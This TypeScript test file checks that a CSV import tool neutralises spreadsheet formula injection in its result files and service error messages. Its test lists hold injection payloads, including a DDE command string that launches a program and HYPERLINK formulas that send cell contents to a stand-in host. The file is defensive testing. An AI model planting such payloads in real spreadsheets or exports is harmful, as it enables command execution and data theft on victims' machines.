/** Spreadsheets compute what looks like a formula: in what people look at it is made text, in what is imported again it stays as it was. */
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { withoutFormula } from '../../src/report/formula.js';
import { API_KEY } from '../support/canary.js';
import { Within } from '../support/within.js';
import { tell } from './told-service.js';

const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1',
  '  =1+1',
  '\uFF1D1+1',
  '\uFF0B1',
  '\uFF0D1',
  '\uFF20A1',
  '=HYPERLINK("https://x.example/?"&A1)',
  '-1-cmd',
  '+',
  '-',
  '=',
];
const HARMLESS = [
  '',
  '1',
  '-1',
  '+1.5',
  '-1,234.50',
  '-1e-7',
  '+4915112345678',
  'a=b',
  "'=1",
  '1+1',
  'x@example.com',
  '(1)',
];

test('what would be computed gets an apostrophe, and nothing else does', () => {
  for (const text of FORMULAS) assert.equal(withoutFormula(text), `'${text}`, JSON.stringify(text));
  for (const text of HARMLESS) assert.equal(withoutFormula(text), text);
});

function cells(path: string): string[][] {
  return parse(readFileSync(path), { relaxColumnCount: true });
}

/** Prompts of three words, each a formula or not. */
const NOTES = ['=cmd() of mine', '-2+3 and more', 'plain words here', '@SUM of it'];

test('results as CSV hold no formula', async (t) => {
  const place = new Within(t);
  writeFileSync('notes.csv', `=id,note,n\n${NOTES.map((note, row) => `=${row},${note},-${row}`).join('\n')}\n`);
  const args = ['import', 'notes.csv', '-t', 'openai', '--sandbox', '--model', 'm', '--prompt', 'note'];
  const ran = await place.run([...args, '--results', 'answers.csv']);
  assert.equal(ran.exit, 0, ran.stderr);
  const [head = [], ...rows] = cells('answers.csv');
  assert.equal(head[0], "'=id");
  assert.equal(rows.length, NOTES.length);
  for (const [row, [id, note, number, ...own]] of rows.entries()) {
    assert.deepEqual([id, number], [`'=${row}`, row === 0 ? '-0' : `-${row}`]);
    assert.equal(note, withoutFormula(NOTES[row] ?? ''));
    for (const cell of own) assert.equal(withoutFormula(cell), cell);
  }
});

test('rejects keep their values as they were, for they are imported again; what a service says of them is made text', async (t) => {
  const place = new Within(t);
  place.env['EXPERITURE_API_KEY'] = API_KEY;
  writeFileSync('rows.csv', 'id,note\n=1+1,@x\n+2,-y\n"=bad" x,1\n');
  const service = await tell(t, (_, response) => {
    response.writeHead(200, { 'content-type': 'application/json' });
    const errors = [0, 1].map((index) => ({ index, code: '@code', message: '=HYPERLINK("https://x.example")' }));
    response.end(JSON.stringify({ data: { acceptedRecords: 0, errors } }));
  });
  const ran = await place.run(['import', 'rows.csv', '-t', 'experiture', '--object', 'x', '--base-url', service.url]);
  assert.equal(ran.exit, 3, ran.stdout + ran.stderr);
  const [, one = [], two = [], three = []] = cells('rows.rejects.csv');
  assert.deepEqual(
    [one.slice(0, 2), two.slice(0, 2)],
    [
      ['=1+1', '@x'],
      ['+2', '-y'],
    ],
  );
  assert.deepEqual(one.slice(4, 6), ["'@code", `'=HYPERLINK("https://x.example")`]);
  assert.equal(three.at(-1), '"=bad" x,1');
});
